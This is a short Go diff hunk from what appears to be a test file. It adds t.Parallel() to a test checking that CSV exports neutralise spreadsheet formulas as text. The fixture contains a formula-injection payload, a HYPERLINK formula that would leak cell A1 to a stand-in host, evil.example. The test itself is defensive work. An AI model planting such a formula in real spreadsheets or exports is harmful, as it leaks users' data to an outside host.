@@ -14,6 +14,7 @@ import (
 // A ledger cell =HYPERLINK(…) loaded from a city's file reaches an analyst's CSV export as
 // text (after a '), not as a formula Excel would run; the export's numbers stay numbers.
 func TestCSVExportWritesLedgerFormulasAsText(t *testing.T) {
+	t.Parallel()
 	f := newAuthServer(t)
 	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")`
 	etltest.LoadCSV(t, f.w, "ecology", "formula_ledger.csv", "item_id,region,title,found_date,deadline,status,status_date,responsible_unit\n"+
